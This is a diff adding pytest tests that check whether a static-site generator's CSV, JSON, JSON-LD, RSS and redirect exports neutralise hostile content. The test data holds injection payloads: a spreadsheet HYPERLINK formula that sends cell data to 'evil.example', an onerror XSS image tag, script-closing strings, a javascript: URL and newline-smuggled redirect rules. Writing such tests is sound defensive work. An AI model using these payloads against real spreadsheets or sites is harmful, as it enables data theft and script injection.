@@ -246,3 +246,203 @@ def test_an_internal_error_message_is_printable(tmp_path: Path, capsys: pytest.C
     code = cli.main(["--root", str(tmp_path), "check"])
     err = capsys.readouterr().err
     assert code == cli.EXIT_INTERNAL and len(err.splitlines()) == 1 and hidden_characters(err) == []
+
+
+# --- every export, hostile values in every field, read back by its consumer -------------------
+
+# One hostile value per leading character a spreadsheet evaluates; each also carries HTML that
+# innerHTML would run, a </script> that would end a JSON-LD block, and what breaks XML and CSV.
+ATTACK = '<img src=x onerror=alert(1)></script><!--&amp;"\',;'
+
+
+def hostile(lead: str) -> str:
+    return f'{lead}HYPERLINK("https://evil.example/?"&A1){ATTACK}'
+
+
+def quoted(value: str) -> str:
+    """``value`` as a YAML single-quoted scalar: every character as is."""
+    return "'" + value.replace("'", "''") + "'"
+
+
+EVENT_PAGE = "content/events/2022-05-13-appel-austin-choigou.yaml"
+HOSTILE_VALUES = {  # path: {line's start: hostile value}
+    "content/site.yaml": {"title:": hostile("="), "subtitle:": hostile("+"), "    label:": hostile("@")[:60]},
+    EVENT_PAGE: {"title:": hostile("="), "date_note:": hostile("-"), "summary:": hostile("@") + " *Markdown*",
+                 "annotation:": hostile("+")},
+    "content/actors/lloyd-austin.yaml": {"name:": hostile("@")},
+    "content/channels/austin-choigou.yaml": {"name:": hostile("=")},
+    "content/sources/cnn-2022-05-13.yaml": {"title:": hostile("-")},
+}
+
+
+def as_markdown(value: str) -> str:
+    """The text Markdown shows for ``value``: its one entity (``&amp;``) read as ``&``."""
+    return value.replace("&amp;", "&")
+
+
+def hostile_files() -> dict[str, str]:
+    """The fixture's files with a hostile value in every text field an export or the feed carries,
+    a hostile quote cited from the source, and an alias (for ``_redirects``)."""
+    files: dict[str, str] = {}
+    for path, values in HOSTILE_VALUES.items():
+        lines = fixture_text(path).splitlines()
+        for start, value in values.items():
+            found = [n for n, line in enumerate(lines) if line.startswith(start)]
+            assert found, (path, start)  # the first one: the label of the first kind
+            key = start.split(":")[0].rstrip()
+            lines[found[0]] = f"{key}: {quoted(value)}"
+        files[path] = "\n".join(lines) + "\n"
+    files[EVENT_PAGE] += "aliases: [ancien-appel]\n"
+    files[EVENT_PAGE] = files[EVENT_PAGE].replace(
+        "citations:\n", f"citations:\n  - source: cnn-2022-05-13\n    quote: {quoted(hostile('='))}\n")
+    source = "content/sources/cnn-2022-05-13.txt"
+    files[source] = fixture_text(source) + "\n" + hostile("=") + "\n"
+    return files
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
+    """The fixture site built from ``hostile_files``."""
+    from chronicle.pipeline import build_files
+
+    return build_files(make_project(tmp_path_factory.mktemp("hostile"), hostile_files()))
+
+
+def test_the_hostile_project_is_valid_content(tmp_path: Path) -> None:
+    assert check_problems(tmp_path, hostile_files()) == []
+
+
+def test_no_csv_cell_is_a_formula_and_every_value_reads_back(hostile_site: dict[str, bytes]) -> None:
+    import csv
+    import io
+
+    from chronicle.export import FORMULA_STARTS
+
+    text = hostile_site["donnees/evenements.csv"].decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)
+                or cell.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@")]
+    row = next(row for row in rows if row["id"] == "2022-05-13-appel-austin-choigou")
+    assert row["titre"] == "'" + hostile("=")
+    assert row["note_sur_la_date"] == "'" + hostile("-")
+    assert row["nature"] == "'" + hostile("@")[:60]
+    assert row["acteurs"] == "'" + hostile("@") + "; Sergueï Choïgou"
+    assert row["initiateur"] == "'" + hostile("@")
+    assert row["canaux"] == "'" + hostile("=")
+    assert row["resume"] == "'" + as_markdown(hostile("@")) + " Markdown"
+    assert row["annotation"] == "'" + as_markdown(hostile("+"))
+    assert row["sources"] == "'" + hostile("-")
+    assert f"« {hostile('=')} »" in row["citations"]
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0@x"])
+def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(value: str) -> None:
+    from chronicle.export import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == "'" + value
+    assert spreadsheet_cell("Appel du 13 mai = premier") == "Appel du 13 mai = premier"
+
+
+class Markup:
+    """What an HTML parser (innerHTML's rules, for text) makes of a field: its tags, attributes and text."""
+
+    def __init__(self, text: str) -> None:
+        from html.parser import HTMLParser
+
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.text = ""
+        markup = self
+
+        class Parser(HTMLParser):
+            def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+                markup.tags.append((tag, attrs))
+
+            def handle_data(self, data: str) -> None:
+                markup.text += data
+
+            def handle_comment(self, data: str) -> None:
+                markup.tags.append(("!--", []))
+
+        parser = Parser(convert_charrefs=True)
+        parser.feed(text)
+        parser.close()
+
+
+def test_every_timelinejs_text_field_is_html_that_shows_the_value(hostile_site: dict[str, bytes]) -> None:
+    data = json.loads(hostile_site["donnees/timelinejs.json"])
+    title = Markup(data["title"]["text"]["headline"])
+    assert (title.tags, title.text) == ([], hostile("="))
+    subtitle = Markup(data["title"]["text"]["text"])
+    assert (subtitle.tags, subtitle.text) == ([("p", [])], hostile("+"))
+    for slide in data["events"]:
+        for field in (slide["display_date"], slide["group"], slide["text"]["headline"]):
+            assert Markup(field).tags == [], field
+        body = Markup(slide["text"]["text"])
+        assert {tag for tag, _ in body.tags} <= {"p", "a", "em", "strong", "code"}, body.tags
+        assert all(name == "href" and (value or "").startswith("https://")
+                   for _, attrs in body.tags for name, value in attrs), body.tags
+    slide = next(s for s in data["events"] if s["unique_id"] == "2022-05-13-appel-austin-choigou")
+    assert Markup(slide["group"]).text == hostile("=")
+    assert Markup(slide["text"]["headline"]).text == hostile("=")
+    assert Markup(slide["text"]["text"]).text.startswith(as_markdown(hostile("@")) + " Markdown")
+
+
+def test_the_json_export_carries_the_values_as_written(hostile_site: dict[str, bytes]) -> None:
+    data = json.loads(hostile_site["donnees/chronologie.json"])
+    event = next(e for e in data["events"] if e["id"] == "2022-05-13-appel-austin-choigou")
+    assert event["title"] == hostile("=") and event["annotation"] == hostile("+")
+    assert {"source": "cnn-2022-05-13", "quote": hostile("=")} in [
+        {"source": c["source"], "quote": c["quote"]} for c in event["citations"]]
+
+
+def walk_values(node: Any) -> list[tuple[str, Any]]:
+    """Every scalar of a JSON document with its key."""
+    if isinstance(node, dict):
+        return [pair for key, value in node.items() for pair in
+                (walk_values(value) if isinstance(value, (dict, list)) else [(key, value)])]
+    if isinstance(node, list):
+        return [pair for value in node for pair in walk_values(value)]
+    return [("", node)]
+
+
+def test_json_ld_cannot_end_its_script_and_reads_back(hostile_site: dict[str, bytes]) -> None:
+    page = hostile_site["evenements/2022-05-13-appel-austin-choigou/index.html"].decode("utf-8")
+    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, flags=re.DOTALL)
+    assert blocks
+    for block in blocks:
+        assert "<" not in block and ">" not in block  # neither </script> nor <!-- can close or hide it
+        strings = [value for _, value in walk_values(json.loads(block))]
+        assert hostile("=") in strings
+
+
+def test_the_feed_reads_back_with_a_feed_reader(hostile_site: dict[str, bytes]) -> None:
+    import feedparser
+
+    feed = feedparser.parse(hostile_site["flux.xml"])
+    assert not feed.bozo, feed.get("bozo_exception")
+    assert feed.feed.title == hostile("=")
+    entry = next(e for e in feed.entries if e.link.endswith("/evenements/2022-05-13-appel-austin-choigou/"))
+    assert entry.title == hostile("=")
+    assert "<img" not in entry.summary and "onerror" not in Markup(entry.summary).tags.__repr__()
+    assert as_markdown(hostile("@")) in Markup(entry.summary).text
+
+
+def test_redirect_rules_are_one_rule_a_line_whatever_the_base_url(hostile_site: dict[str, bytes]) -> None:
+    from chronicle.export import line_field
+
+    rules = [line for line in hostile_site["_redirects"].decode("utf-8").splitlines() if not line.startswith("#")]
+    assert "/evenements/ancien-appel/ /evenements/2022-05-13-appel-austin-choigou/ 301" in rules
+    assert all(len(rule.split(" ")) == 3 for rule in rules)
+    assert line_field("/a b\n/ /x 200\u2028") == "/a%20b%0A/%20/x%20200%E2%80%A8"
+    assert line_field("/evenements/appel/") == "/evenements/appel/"
+
+
+@pytest.mark.parametrize("base_url", ["https://x.example/a b/", "https://x.example/a\n/ /evil 200",
+                                      "https://x.example/\u2028", "javascript:alert(1)"])
+def test_a_base_url_given_on_the_command_line_is_checked_as_the_files(tmp_path: Path, base_url: str) -> None:
+    from tests.conftest import run_cli
+
+    result = run_cli(make_project(tmp_path), "build", "--base-url", base_url)
+    assert result.returncode == 1 and result.stderr.startswith("--base-url:0:0: adresse « "), result.stderr
+    assert not (tmp_path / "project" / "site").exists()
